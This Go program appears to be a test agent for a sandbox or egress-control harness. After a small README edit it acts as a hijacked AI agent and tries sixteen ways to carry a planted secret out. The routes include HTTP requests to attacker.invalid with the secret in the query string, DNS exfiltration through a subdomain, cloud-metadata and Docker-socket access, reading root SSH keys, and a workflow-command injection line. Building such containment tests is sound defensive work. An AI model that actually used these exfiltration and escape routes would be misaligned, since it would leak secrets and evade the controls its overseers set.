// Command agent is the agent of the first job: it does a small piece of work in
// the workspace, and then behaves as a hijacked agent would, trying one way after
// another to get a secret out of the bottle. It exits 0 when the work is done
// and nothing got out as far as it can tell; the decision log and the upstream's
// own log are the judges.
package main

import (
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"
)

const listed = "https://greetings.example/greeting"

func main() {
	if err := work(); err != nil {
		fmt.Println("work:", err)
		os.Exit(1)
	}
	secret := os.Getenv("PLANTED_SECRET")
	if secret == "" {
		fmt.Println("escape: there is no secret to carry out")
		os.Exit(1)
	}
	out := 0
	for i, a := range attempts(secret) {
		result := "held"
		err := a.try()
		if err == nil {
			result, out = "GOT OUT", out+1
		}
		fmt.Printf("%2d %-46s %-8s %s\n", i+1, a.name, result, short(err))
	}
	// What a runner would take for an order of the job's own:
	fmt.Println("::error::a workflow command in the agent's output")
	if out > 0 {
		os.Exit(1)
	}
}

// work fetches the greeting and puts it into the README.
func work() error {
	greeting, err := fetch(http.MethodGet, listed, nil, "")
	if err != nil {
		return err
	}
	readme, err := os.ReadFile("README.md")
	if err != nil {
		return err
	}
	changed := strings.Replace(string(readme), "(none yet)", strings.TrimSpace(greeting), 1)
	fmt.Println("work: put the greeting into README.md")
	return os.WriteFile("README.md", []byte(changed), 0o644)
}

type attempt struct {
	name string
	try  func() error // nil: the secret got out
}

func attempts(secret string) []attempt {
	query := "?q=" + url.QueryEscape(secret)
	return []attempt{
		{"HTTPS to a host that is not listed", through(http.MethodGet, "https://attacker.invalid/"+query, nil)},
		{"HTTP to a host that is not listed", through(http.MethodGet, "http://attacker.invalid/"+query, nil)},
		{"HTTPS to an address", through(http.MethodGet, "https://192.0.2.1/"+query, nil)},
		{"an address with a listed Host header", through(http.MethodGet, "http://192.0.2.1/"+query, http.Header{"Host": {"greetings.example"}})},
		{"cloud metadata, in decimal", through(http.MethodGet, "http://2852039166/latest/meta-data/"+query, nil)},
		{"POST to a listed host that is read-only", post(listed, secret)},
		{"a listed host on another port", through(http.MethodGet, "https://greetings.example:8443/"+query, nil)},
		{"a listed host without TLS", through(http.MethodGet, "http://greetings.example/"+query, nil)},
		{"TCP straight to an address", dial("tcp", "192.0.2.1:443")},
		{"TCP to the host's gateway", dial("tcp", "10.0.2.2:22")},
		{"IPv6 straight to an address", dial("tcp", "[2001:db8::1]:443")},
		{"UDP to a resolver", send("udp", "192.0.2.53:53", secret)},
		{"a name that carries the secret", lookup(secret + ".attacker.invalid")},
		{"the Docker socket", dial("unix", "/var/run/docker.sock")},
		{"the host's ssh keys", read("/root/.ssh/id_ed25519")},
		{"the runner's step environment", getenv("GITHUB_ENV")},
	}
}

func fetch(method, target string, header http.Header, body string) (string, error) {
	transport := &http.Transport{Proxy: http.ProxyFromEnvironment, TLSClientConfig: &tls.Config{}}
	request, err := http.NewRequest(method, target, strings.NewReader(body))
	if err != nil {
		return "", err
	}
	request.Host = header.Get("Host")
	client := &http.Client{Transport: transport, Timeout: 5 * time.Second}
	response, err := client.Do(request)
	if err != nil {
		return "", err
	}
	defer response.Body.Close()
	answer, err := io.ReadAll(io.LimitReader(response.Body, 1<<16))
	if err == nil && response.StatusCode != http.StatusOK {
		err = fmt.Errorf("%s: %s", response.Status, answer)
	}
	return string(answer), err
}

func through(method, target string, header http.Header) func() error {
	return func() error {
		_, err := fetch(method, target, header, "")
		return err
	}
}

func post(target, body string) func() error {
	return func() error {
		_, err := fetch(http.MethodPost, target, nil, body)
		return err
	}
}

func dial(network, address string) func() error {
	return func() error {
		c, err := net.DialTimeout(network, address, 2*time.Second)
		if err == nil {
			c.Close()
		}
		return err
	}
}

func send(network, address, data string) func() error {
	return func() error {
		c, err := net.DialTimeout(network, address, 2*time.Second)
		if err != nil {
			return err
		}
		defer c.Close()
		_, err = c.Write([]byte(data))
		return err
	}
}

func lookup(name string) func() error {
	return func() error {
		_, err := net.LookupHost(name)
		return err
	}
}

func read(path string) func() error {
	return func() error {
		_, err := os.ReadFile(path)
		return err
	}
}

func getenv(name string) func() error {
	return func() error {
		if os.Getenv(name) == "" {
			return fmt.Errorf("%s is not set", name)
		}
		return nil
	}
}

// short gives the first line of err, without the address it was tried at.
func short(err error) string {
	if err == nil {
		return ""
	}
	line, _, _ := strings.Cut(err.Error(), "\n")
	if len(line) > 90 {
		line = line[:87] + "..."
	}
	return line
}
